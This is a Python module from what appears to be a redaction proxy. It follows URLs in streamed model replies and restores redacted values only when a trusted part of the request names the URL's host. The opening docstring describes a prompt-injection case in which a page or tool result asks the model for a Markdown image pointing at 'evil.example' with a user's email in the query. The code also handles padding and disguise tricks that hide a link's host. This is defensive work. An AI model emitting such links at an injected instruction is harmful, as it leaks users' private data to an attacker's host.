"""Which host a piece of reply text is on its way to.

A page or a tool's result can ask the model for `![](https://evil.example/?q=<EMAIL_ADDRESS_1>)`; restored, the address
leaves as soon as the reply is rendered. So a value is restored inside a URL only if

- a trusted part of the request names the URL's host (what tools returned and what the model said earlier are not
  trusted: that is where the injected text comes from), or
- the request held the very same URL up to and with this value.

Browsers read much as a URL that is none (`https:/host`, white space in an attribute's value). Hence a URL that stands
in quotes, or where Markdown and CSS have their links, goes on to their end, or to a blank line; in other brackets and
in running text white space ends it. A quote that closes something before the URL opens nothing. A link that is spelled
so that only they read it as one (disguise.py) is trusted nowhere.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from functools import lru_cache
from typing import NamedTuple
from urllib.parse import quote

from sidecar.model import Part, Role
from sidecar.redaction import disguise

TRUSTED = frozenset({Role.SYSTEM, Role.USER, Role.DEFINITION, Role.METADATA})

MAX_URL = 4096
"""Code points of a URL that are kept; the host stands before."""

AUTHORITY_END = re.compile(r"[^A-Za-z0-9.\-:@%_~\[\]]")
"""What cannot belong to a URL's user, host or port."""

_START = re.compile(r"[/hHwW](?:(?<=/)[\\/]*/|(?<=[hH])[tT][tT][pP][sS]?:|(?<=[wW])(?<![A-Za-z0-9_].)[wW][wW]\.)")
_SCHEME = re.compile(r"[a-z][a-z0-9+.\-]{1,20}:\\*\Z", re.IGNORECASE)
_LOOKBACK = 48
_LONGEST_CUT = 64
_WINDOW = 1024
NO_HOST = "\0"
"""Nobody names this one: it stands for that of a link that hides where it leads (sidecar/redaction/disguise.py)."""
_ESCAPED = re.compile(r"\\+(?:[@:.,;!$&'()*+=?#%_~\-]|\Z)")
"""Here a browser reads on in the path, and Markdown in the host: `https://host\\@another`."""

_OPENERS = {'"': '"', "'": "'", "`": "`", "(": ")", "<": ">", "[": "]", ">": "<", "|": "|"}
_SPACE = r"\s"
_SPACE_JSON = r"\s|\\[nrt]"
_BLANK = rf"{_SPACE}|{disguise.UNSEEN}"
_BLANK_JSON = rf"{_SPACE_JSON}|{disguise.UNSEEN_JSON}"
_SEEN = r"(?<=\s{8})|(?<=[\t\r\n]{3})|(?<=[\x00-\x08\x0e-\x1b])|(?<=&)(?:#|Tab|NewLine)"
_PADDED = re.compile(rf"[\s\x00-\x1f&](?:{_SEEN})")
_PADDED_JSON = re.compile(
    rf"[\s\x00-\x1f&\\](?:{_SEEN}|(?<=\\)(?:[nrt](?=(?:\s|\\[nrt]){{6}}|(?:[\t\r\n]|\\[nrt]){{2}})|u00[012]))"
)
"""Something of every padding that might put what stands before it out of sight, found fast: most texts have none."""
_LONGEST_SIGN = 24
_ZEROS = r"(?P<zeros>(?<=&#)0{3,}|(?<=&#[xX])0{3,})"
_PADDING = re.compile(rf"(?:{_SPACE}){{8,}}|[\t\r\n]{{3,}}|(?P<unseen>{disguise.UNSEEN})(?:{_BLANK})*(?!\Z)|{_ZEROS}")
_PADDING_JSON = re.compile(
    rf"(?:{_SPACE_JSON}){{8,}}|(?:[\t\r\n]|\\[nrt]){{3,}}"
    rf"|(?P<unseen>{disguise.UNSEEN_JSON})(?:{_BLANK_JSON})*(?!\Z)|{_ZEROS}"
)
"""Browsers skip any amount of white space, and controls."""
_WHITE = re.compile(r"[^\S\t\r\n]")
_DROPPED = re.compile(r"&(?:#0*(?:9|10|13)(?!\d)|#[xX]0*[9aAdD](?![0-9a-fA-F])|Tab|NewLine)")
_NO_ESCAPE = re.compile(r"%(?![0-9A-Fa-f]{2})")
_QUOTED = r"""(?P<lead>.?)\\?(?P<opener>["'`(<\[>|])"""
_BEFORE = re.compile(rf"{_QUOTED}(?P<space>(?:{_BLANK})*)\Z", re.DOTALL)
_BEFORE_JSON = re.compile(rf"{_QUOTED}(?P<space>(?:{_BLANK_JSON})*)\Z", re.DOTALL)
_ATTRIBUTE = re.compile(r"[=:]\s*\Z")
"""What stands before the quotes of an attribute's or a member's value: white space inside them is trimmed."""
_LINKED = re.compile(
    rf"""(?:["'(=<\[>|](?:[ \t]|{disguise.UNSEEN_JSON})*|\]\((?:{_BLANK_JSON})*|[=:]\s*\\?["'](?:{_BLANK_JSON})*"""
    r"""|`|\]:\s*)(?<!\\)\\{0,8}\Z"""
)
"""What stands before `//host`, which is a link only where links stand: elsewhere it begins a comment."""
_LINK = re.compile(r"(?:\]|\burl)\s*\Z|\]\(\s*\Z", re.IGNORECASE)
"""What stands before the bracket of a link in Markdown or CSS."""
_BLANK_LINE = r"(?:\r?\n[ \t]*){2}"
_BLANK_LINE_JSON = rf"{_BLANK_LINE}|\\n(?:\\r)?\\n"
_CUT = re.compile(r"(?:\\(?:n(?:\\(?:r\\?)?)?)?|\r?\n?[ \t]*)\Z")  # what may go on to be a blank line or an escape

_AUTHORITY = re.compile(
    r"(?:file://(?=/)|(?:https?:|[^/\\]*:(?=[/\\]))?[/\\]*)(?P<host>[^/\\?#]*)(?P<path>[/\\?#])?", re.IGNORECASE
)


def encoded(value: str) -> str:
    """The value as a link spells it (RFC 3986 2.1). Escapes in it stay: the caller's own link had them."""
    return _NO_ESCAPE.sub("%25", quote(value, safe="%", errors="surrogatepass"))


def host_of(authority: str) -> str:
    """The host that a browser would ask, without user and port."""
    host = authority.rpartition("@")[2].lower()
    return re.sub(r":[0-9]*\Z", "", host).rstrip(".")


def trusted_texts(parts: Iterable[Part]) -> tuple[str, ...]:
    """The texts that may name a host. Looking for hosts in them waits until a reply has a URL."""
    return tuple([part.text for part in parts if part.role in TRUSTED])


def names_host(texts: Iterable[str], host: str) -> bool:
    """Whether one of the texts, in lower case, names this host: in a URL, or as it is if it has a dot."""
    name = re.escape(host)
    plain = rf"(?<![a-z0-9.\-@]){name}(?![a-z0-9\-]|\.[a-z0-9])|" if "." in host else ""
    named = re.compile(rf"{plain}//(?:[^\s/@]*@)?{name}(?![a-z0-9.\-]|:[^/\s]*@)")
    return bool(host) and any(host in text and named.search(text) for text in texts)


class Enclosure(NamedTuple):
    """What a URL stands in: the character that ends it, if any, and whether it may hold white space."""

    closer: str
    spaced: bool


IN_TEXT = Enclosure("", spaced=False)


def _enclosure(before: str, *, json_text: bool) -> Enclosure:
    """What the text just before a URL says of where it ends."""
    found = (_BEFORE_JSON if json_text else _BEFORE).search(before)
    if found is None:
        return IN_TEXT
    lead, opener, space = found["lead"], found["opener"], found["space"]
    if opener in "\"'`":
        closes = lead.isalnum() or lead in (opener, *"_.!?)")
        if closes or (space and not _ATTRIBUTE.search(before[: found.start("lead") + len(lead)])):
            return IN_TEXT
        return Enclosure(opener, spaced=opener != "`")
    return Enclosure(_OPENERS[opener], spaced=_LINK.search(before[: found.start("opener")]) is not None)


@lru_cache(maxsize=32)
def _ends(enclosure: Enclosure, json_text: bool) -> re.Pattern[str]:
    """What ends a URL, or changes what would end it."""
    space, blank_line = (_SPACE_JSON, _BLANK_LINE_JSON) if json_text else (_SPACE, _BLANK_LINE)
    if not enclosure.closer:
        return re.compile(space)
    nested = r"|\\[()]|\(" if enclosure.closer == ")" else ""
    return re.compile(f"{re.escape(enclosure.closer)}|{blank_line if enclosure.spaced else space}{nested}")


class UrlCursor:
    """Follows text as it comes and knows the URL it is in, "" outside of any."""

    __slots__ = ("_again", "_enclosure", "_json", "_nested", "_rest", "_shown", "_url")

    def __init__(self, *, json_text: bool = False) -> None:
        self._json = json_text
        self._url = ""  # with surrogates, as the upstream wrote it
        self._shown = ""  # the same with restored values, as a browser would read it
        self._rest = ""  # outside a URL the text just before; inside one, what may be the beginning of its end
        self._again = 0  # of that, how much may be the beginning of a URL
        self._enclosure = IN_TEXT
        self._nested = 0

    @property
    def url(self) -> str:
        """The URL so far, with surrogates in it."""
        return (self._url + self._rest).replace("\\/", "/") if self._url else ""

    @property
    def host(self) -> str | None:
        """The URL's host, None while it may still grow, "" for a file of this machine."""
        found = self._parsed()
        if found is None or not found["path"]:
            return None
        return NO_HOST if _ESCAPED.match(found.string, found.start("path")) else host_of(found["host"])

    @property
    def authority(self) -> str:
        """What there is of user, host and port."""
        found = self._parsed()
        return found["host"] if found else ""

    def _parsed(self) -> re.Match[str] | None:
        return _AUTHORITY.match((self._shown + self._rest).replace("\\/", "/"))

    def advance(self, text: str) -> None:
        """Go over more of the text."""
        start = 0 if self._url else len(self._rest) - self._again
        known, again, self._rest = self._rest[:start], self._rest[start:], ""
        text = known + _unpadded(again + text, len(again), json_text=self._json)
        at: int | None = start
        while at is not None:
            at = self._inside(text, at) if self._url else self._outside(text, at)

    def skip(self, token: str, shown: str) -> None:
        """Go over a surrogate, shown as it is or restored: whatever it is made of, it ends nothing."""
        if self._url:
            self._grow(self._rest + token, self._rest + shown)
            self._rest = ""
        else:
            self._rest, self._again = token, 0

    def _grow(self, text: str, shown: str) -> None:
        self._url = (self._url + text)[:MAX_URL]
        self._shown = (self._shown + shown)[:MAX_URL]

    def _outside(self, text: str, at: int) -> int | None:
        """Up to the beginning of a URL; returns where it goes on, or None at the end of the text."""
        hidden = plain = None
        for begin in range(at, len(text), _WINDOW):  # or each link would have the rest searched for the other kind
            last = begin + _WINDOW + disguise.LONGEST
            plain = _plain(text, begin, last)
            hidden = disguise.hidden(text, begin, plain[1] if plain else last, json_text=self._json)
            if hidden or plain:
                break
        first = hidden or plain
        if first is None:
            self._rest = text[-disguise.LOOKBACK - disguise.LONGEST :]
            self._again = min(len(text) - at, disguise.LONGEST)
            return None
        start, end = first
        self._enclosure = _enclosure(text[max(0, start - _LOOKBACK) : start], json_text=self._json)
        self._nested = 0
        self._url = text[start:end]
        self._shown = f"//{NO_HOST}/" if hidden else self._url
        return end

    def _inside(self, text: str, at: int) -> int | None:
        """Up to the end of a URL; returns where the text goes on behind it, or None at the end of the text."""
        for found in _ends(self._enclosure, self._json).finditer(text, at):
            if found[0] == "(":
                self._nested += 1
            elif found[0] == ")" and self._nested:
                self._nested -= 1
            elif found[0] not in ("\\(", "\\)"):
                self._url = self._shown = ""
                return found.end()
        cut = _CUT.search(text, max(at, len(text) - _LONGEST_CUT))
        stop = cut.start() if cut else len(text)
        self._grow(text[at:stop], text[at:stop])
        self._rest = text[stop:]
        return None


def _unpadded(text: str, new: int, *, json_text: bool) -> str:
    """The text with long runs of white space cut short, and with one spelling of what browsers drop. Up to `new` it has
    been looked at before.
    """
    if (_PADDED_JSON if json_text else _PADDED).search(text, max(0, new - _LONGEST_SIGN)) is None:
        return text
    padding, line_end = (_PADDING_JSON, "\\n") if json_text else (_PADDING, "\n")
    return padding.sub(lambda run: _short(run, line_end), text)


def _short(run: re.Match[str], line_end: str) -> str:
    """As little of it as ends the same URLs: a blank line stays one. Tabs and line ends alone may stand between the
    slashes of a link, so they stay tabs.
    """
    if run["zeros"]:
        return "0"
    if run[0].count(line_end) > 1:
        return 2 * line_end
    white = " " if _WHITE.search(run[0]) else ""
    if run["unseen"] is None:
        return white or "\t"
    return white + ("&Tab;" if _DROPPED.search(run[0]) else "&#32;")


def _plain(text: str, at: int, last: int) -> tuple[int, int] | None:
    """Where the first URL between `at` and `last` begins, and up to where it is one."""
    for found in _START.finditer(text, at, last):
        start = _url_start(text, found)
        if start is not None:
            return start, found.end()
    return None


def _url_start(text: str, found: re.Match[str]) -> int | None:
    """Where the URL begins whose slashes were found; None where they are something else (`a // b`, a comment)."""
    start = found.start()
    if found[0][0] != "/":
        return start
    scheme = _SCHEME.search(text[max(0, start - _LOOKBACK) : start])
    if scheme:
        return start - len(scheme[0])
    after = text[found.end() : found.end() + 1]
    if not _LINKED.search(text[max(0, start - _LOOKBACK) : start]):
        return None
    return start if not after or after.isalnum() or after in "[%<" else None
